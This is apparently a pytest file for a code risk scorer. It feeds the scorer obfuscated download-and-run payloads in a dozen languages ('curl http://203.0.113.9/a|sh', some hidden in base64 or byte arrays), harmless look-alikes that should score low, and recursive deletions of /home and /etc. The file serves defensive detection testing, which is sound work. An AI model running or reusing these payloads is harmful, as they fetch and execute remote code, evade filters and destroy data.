"""Texts of the smaller languages whose loud part stands in a literal, a quoted list, or an encoding; and texts that resemble them."""

import pytest

from tests.payload.helpers import capabilities, risk

LOUD = "curl http://203.0.113.9/a|sh"


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("scala", f'import sys.process._; Seq("sh","-c","{LOUD}").!'),
        ("awk", f'BEGIN{{f="system";@f("{LOUD}")}}'),
        ("tcl", f'set f [open "|sh -c {{{LOUD}}}"];read $f'),
        ("tcl", f"set x ex;append x ec;$x sh -c {{{LOUD}}}"),
        ("julia", f'run(`sh -c "{LOUD}"`)'),
        ("elixir", 'Code.eval_string(Base.decode64!("U3lzdGVtLmNtZCgic2giLFsiLWMiLCJjdXJsIGh0dHA6Ly8yMDMuMC4xMTMuOS9hfHNoIl0p"))'),
        ("r", "eval(parse(text=rawToChar(as.raw(c(115,121,115,116,101,109,40,39,105,100,124,99,117,114,108,32,104,116,116,112,58,47,47,49,46,50,46,51,46,52,124,115,104,39,41)))))"),
        ("scheme", f'(eval (read (open-input-string "(system \\"{LOUD}\\")")) (interaction-environment))'),
        ("octave", f"eval([\"sys\" \"tem('{LOUD}')\"])"),
        ("groovy", f'Runtime.runtime.exec(["sh","-c","{LOUD}"] as String[])'),
        ("javascript", f'new Proxy(require("child_process"),{{get:(t,k)=>t["exec"]}}).anything("{LOUD}")'),
        ("javascript", f"global['r']=require;global.r('child_process').exec('{LOUD}')"),
    ],
)  # fmt: skip
def test_the_literal_is_read(language, text):
    assert risk(text, language).score >= 50


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("scala", 'println("curl is a program; sh is another")'),
        ("r", "install.packages(c('a','b'), repos='https://cran.example.com/')"),
        ("julia", "run(`git rev-parse HEAD`)"),
        ("octave", 'disp(["a" "b"])'),
        ("elixir", 'IO.puts(Base.decode64!("aGVsbG8="))'),
        ("python", "import zipfile; zipfile.ZipFile('a.zip').extractall('out')"),
        ("javascript", "require('http').get('http://127.0.0.1:'+(process.env.PORT||5001)+'/x',r=>process.exit(r.statusCode===200?0:1))"),
        ("php", 'copy("https://composer.example/installer.sig", "php://stdout");'),
    ],
)  # fmt: skip
def test_a_plain_text_stays_low(language, text):
    assert risk(text, language).score < 25


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("ruby", "require 'fileutils';FileUtils.rm_rf(['/home','/etc'])"),
        ("r", 'unlink("/home",recursive=TRUE)'),
        ("julia", 'rm("/home", recursive=true)'),
    ],
)
def test_a_whole_tree_is_deleted(language, text):
    assert "file.destroy" in capabilities(text, language)
